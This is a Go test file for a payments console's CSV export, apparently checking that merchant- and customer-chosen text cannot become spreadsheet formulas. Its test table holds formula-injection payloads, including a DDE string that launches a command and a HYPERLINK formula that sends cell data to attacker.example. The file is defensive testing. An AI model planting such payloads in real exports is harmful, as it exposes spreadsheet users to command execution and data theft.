package console

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/shopspring/decimal"

	"github.com/oncepay/oncepay/internal/transactions"
)

// hostileCells are texts that a merchant or a customer may have chosen, and how a
// spreadsheet gets them.
var hostileCells = []struct{ text, cell string }{
	{"", ""},
	{"order-1", "order-1"},
	{"a=b", "a=b"},
	{"a -b +c @d", "a -b +c @d"},
	{"=1+1", "'=1+1"},
	{"+1", "'+1"},
	{"-1", "'-1"},
	{"@SUM(A1)", "'@SUM(A1)"},
	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{`=HYPERLINK("https://attacker.example/?"&A1,"x")`, `'=HYPERLINK("https://attacker.example/?"&A1,"x")`},
	{"\t=1", "'\t'=1"},
	{"\tplain", "'\tplain"},
	{"\nplain", "'\nplain"},
	{"  =1", "'  =1"},
	{`"=1`, `'"=1`},
	{"'=1", "''=1"},
	{"' \" =1", "'' \" =1"},
	{"“=1", "'“=1"},
	{"\u00a0=1", "'\u00a0=1"},
	{"\u200b=1", "'\u200b=1"},
	{"\ufeff=1", "'\ufeff=1"},
	{"\u202e=1", "'\u202e=1"},
	{"＝1", "'＝1"}, {"＋1", "'＋1"}, {"－1", "'－1"}, {"＠1", "'＠1"},
	{"﹦1", "'﹦1"}, {"−1", "'−1"},
	{"fine;=1", "fine;'=1"},
	{"fine,-1", "fine,'-1"},
	{"fine\t@x", "fine\t'@x"},
	{"fine; \"=1", "fine;' \"=1"},
	{"line\n=1", "line\n'=1"},
	{`"; =1; "`, `";' =1; "`},
	{"Straße, Ω", "Straße, Ω"},
	{"\xff=1", "\xff=1"},
}

func TestNoCellOfAFileIsAFormula(t *testing.T) {
	t.Parallel()
	for _, h := range hostileCells {
		if got := guarded(h.text); got != h.cell {
			t.Errorf("%q became %q, want %q", h.text, got, h.cell)
		}
	}
}

// hostileLine has the same text in every field that somebody else may choose.
func hostileLine(text string) transactions.PaymentLine {
	amount := func(s string) decimal.Decimal { return decimal.RequireFromString(s) }
	return transactions.PaymentLine{
		AccountID: uuid.Must(uuid.NewV7()), MerchantName: text, ID: uuid.Must(uuid.NewV7()), Mode: "test", Order: text,
		Status: "SUCCEEDED", SubStatus: "APPROVED", Amount: amount("1234.5000"), Captured: amount("0"), Refunded: amount("0.0100"),
		Currency: "USD", Customer: text, CreatedAt: time.Date(2026, 11, 22, 23, 59, 59, 123456000, time.UTC),
		Nonce: text, Provider: text, ResponseCode: text, CardBrand: text, CardLastFour: text,
	}
}

// Whatever is in a cell, a file is read back as what was written: so many cells, the
// amounts as they are, and no cell that begins like a formula.
func TestAFileIsReadBackAsItWasWritten(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	file, err := newPaymentsCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range hostileCells {
		if err := file.add(hostileLine(h.text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := file.flush(); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(strings.ReplaceAll(b.String(), "\r\n", ""), "\n") {
		t.Error("a line ends without CR")
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != len(hostileCells)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	at := map[string]int{}
	for i, name := range rows[0] {
		at[name] = i
	}
	for i, h := range hostileCells {
		row := rows[i+1]
		for _, name := range []string{"merchant", "merchant_order_id", "customer", "provider", "response_code", "card_brand", "card_last_four", "nonce"} {
			if got := row[at[name]]; got != h.cell {
				t.Errorf("%s: %q, want %q", name, got, h.cell)
			}
		}
		for name, want := range map[string]string{
			"amount": "1234.50", "captured": "0.00", "refunded": "0.01", "currency": "USD", "created_at": "2026-11-22T23:59:59.123456Z",
			"transaction_id": "",
		} {
			if got := row[at[name]]; got != want {
				t.Errorf("%s: %q, want %q", name, got, want)
			}
		}
	}
}

func FuzzAGuardedCellBeginsNoFormula(f *testing.F) {
	for _, h := range hostileCells {
		f.Add(h.text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		cell := guarded(text)
		for part := range strings.FieldsFuncSeq(cell, func(r rune) bool { return strings.ContainsRune(cellEnds, r) }) {
			if seen := strings.TrimLeftFunc(part, invisible); seen != "" && strings.IndexAny(seen, formulaSigns) == 0 && !strings.HasPrefix(part, "'") {
				t.Errorf("%q: a cell begins with %q", cell, part)
			}
		}
		if strings.ReplaceAll(cell, "'", "") != strings.ReplaceAll(text, "'", "") {
			t.Errorf("%q became %q", text, cell)
		}
	})
}

func TestAmountsKeepTheirCurrencysDecimals(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ amount, currency, want string }{
		{"45.6700", "USD", "45.67"}, {"45", "USD", "45.00"}, {"45.6789", "USD", "45.6789"}, {"5000.0000", "JPY", "5000"},
		{"5000.5", "JPY", "5000.5"}, {"1.2340", "KWD", "1.234"}, {"7.5", "XXX", "7.5"}, {"0", "USD", "0.00"},
		{"9999999999.9999", "CLF", "9999999999.9999"},
	} {
		if got := plainAmount(decimal.RequireFromString(c.amount), c.currency); got != c.want {
			t.Errorf("%s %s is written %s, want %s", c.amount, c.currency, got, c.want)
		}
	}
}
